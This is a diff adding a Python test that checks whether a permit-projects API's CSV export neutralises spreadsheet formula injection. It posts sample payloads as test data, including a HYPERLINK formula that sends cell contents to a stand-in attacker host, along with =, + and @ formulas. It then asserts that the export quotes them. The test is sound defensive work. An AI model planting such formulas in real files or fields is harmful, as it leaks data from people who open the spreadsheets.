@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -96,6 +98,39 @@ def test_filters_bbox_and_paging(client: TestClient) -> None:
     assert client.get("/api/v1/projects?from=hier").status_code == 422
     csv_lines = client.get("/api/v1/projects.csv?commune=Ain%20Demo").text.strip().splitlines()
     assert csv_lines[0].startswith("id,permit_number") and len(csv_lines) == 3
+
+
+def test_csv_cells_are_no_formulas_and_numbers_stay_numbers(client: TestClient) -> None:
+    """Issue #10: the public CSV exported =HYPERLINK(…) and =1+1 as they came in; a spreadsheet
+    opening it runs them. Text starting with = + - @ or a tab is quoted; numbers, Morocco's
+    negative longitudes included, are written as numbers."""
+    attacks = {
+        '=HYPERLINK("http://evil.example/?"&A1,"Voir")': "Ain Demo",
+        "+1-2": "=1+1",
+        "-3+4": "@SUM(A1:A9)",
+        "AU/OK/1": "\tTémara",
+        "AU/OK/2": "Ain Demo",
+    }
+    for number, (permit, commune) in enumerate(attacks.items()):
+        shifted = mapping(translate(SQUARE, xoff=30 * number))
+        body = project(permit, commune=commune, footprint=shifted)
+        assert client.post("/api/v1/projects", json=body, headers=AGENT).status_code == 201
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/projects.csv").text)))
+    cells = {row["permit_number"]: row for row in rows}
+    assert set(cells) == {
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")',
+        "'+1-2",
+        "'-3+4",
+        "AU/OK/1",
+        "AU/OK/2",
+    }
+    assert cells["'+1-2"]["commune"] == "'=1+1"
+    assert cells["'-3+4"]["commune"] == "'@SUM(A1:A9)"
+    assert cells["AU/OK/1"]["commune"] == "'\tTémara"
+    assert cells["AU/OK/2"]["commune"] == "Ain Demo"
+    for row in rows:  # numbers as numbers: a negative longitude is no formula to neutralise
+        assert float(row["longitude"]) < -6.9 and not row["longitude"].startswith("'")
+        assert float(row["height_m"]) == 9.0 and row["storeys"] == "2"
 
 
 def test_import_is_all_or_nothing(client: TestClient, conn: Connection, tmp_path: Path) -> None:
